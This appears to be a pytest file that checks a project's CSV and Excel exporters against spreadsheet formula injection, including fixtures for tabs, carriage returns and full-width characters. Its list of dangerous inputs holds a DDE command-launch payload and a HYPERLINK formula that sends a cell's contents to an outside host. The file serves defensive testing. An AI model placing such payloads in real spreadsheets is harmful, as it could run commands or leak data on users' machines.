"""CSV and Excel downloads neutralise formula injection (mintqo/io/tabular.py)."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from mintqo.io.tabular import (
    FORMULA_CHARACTERS,
    csv_bytes,
    excel_bytes,
    safe_frame,
    spreadsheet_safe,
)

FORMULA_PREFIXES = (*FORMULA_CHARACTERS, "\t", "\r")

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Klick")',
    "+49 30 123456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    " =leading space",
    "＝全角",
]
HARMLESS = ["Robotik-Werkstatt", "", "a=b", "3-2", "E-Mail: x@y.de", "'=schon"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_cells_are_prefixed(text):
    assert spreadsheet_safe(text).startswith("'" + text[:1])


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_untouched(text):
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, 1.5, None, True, pd.NA])
def test_non_text_values_are_untouched(value):
    assert spreadsheet_safe(value) is value


def test_every_prefix_is_covered():
    assert {"=", "+", "-", "@", "＝", "＋", "－", "＠"} <= set(FORMULA_CHARACTERS)


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Name": DANGEROUS + HARMLESS[:1],
            "Delta": [-5.5, -1, 0, 2, 3, 4, 5, -7, 8, -9, 10],
            "=Spalte": ["x"] * 11,
        }
    )


def test_neutralise_handles_columns_numbers_and_string_dtype():
    f = frame()
    safe = safe_frame(f)
    assert list(safe.columns) == ["Name", "Delta", "'=Spalte"]
    assert list(safe["Name"]) == [spreadsheet_safe(t) for t in DANGEROUS] + HARMLESS[:1]
    assert list(safe["Delta"]) == list(f["Delta"])  # negative numbers stay numbers
    assert safe["Delta"].dtype == f["Delta"].dtype
    assert list(f["Name"]) == DANGEROUS + HARMLESS[:1]  # the input is not modified
    typed = f.astype({"Name": "string"})
    assert (
        list(safe_frame(typed)["Name"]) == [spreadsheet_safe(t) for t in DANGEROUS] + HARMLESS[:1]
    )


def test_csv_bytes_round_trip_shows_no_formula():
    f = frame()
    data = csv_bytes(f)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig", decimal=",")
    for cell in back["Name"]:
        assert not str(cell).startswith(FORMULA_PREFIXES)
    assert list(back["Delta"]) == [-5.5, -1, 0, 2, 3, 4, 5, -7, 8, -9, 10]


def test_excel_bytes_stores_text_not_formulas():
    wb = load_workbook(io.BytesIO(excel_bytes({"Daten": frame()})))
    ws = wb["Daten"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [ws.cell(r, 1).value for r in range(2, 2 + len(DANGEROUS))]
    # XML normalises a CR to LF; the apostrophe in front is what matters.
    assert names == [spreadsheet_safe(t).replace("\r", "\n") for t in DANGEROUS]
    assert all(ws.cell(r, 1).data_type == "s" for r in range(2, 2 + len(DANGEROUS)))
    deltas = [ws.cell(r, 2).value for r in range(2, 13)]
    assert deltas == [-5.5, -1, 0, 2, 3, 4, 5, -7, 8, -9, 10]


def test_long_sheet_names_are_cut():
    wb = load_workbook(io.BytesIO(excel_bytes({"x" * 40: frame()})))
    assert wb.sheetnames == ["x" * 31]


@pytest.mark.parametrize("text", ["Notiz\r=1+1", "\r=1+1", "Notiz\r@SUMME(A1)"])
def test_a_carriage_return_inside_a_cell_cannot_start_a_formula_row(text):
    data = csv_bytes(pd.DataFrame({"Notiz": [text], "Wert": [1]}))
    back = pd.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig", dtype=str)
    assert len(back) == 1
    assert not any(str(v).startswith(FORMULA_PREFIXES) for v in back.to_numpy().ravel())
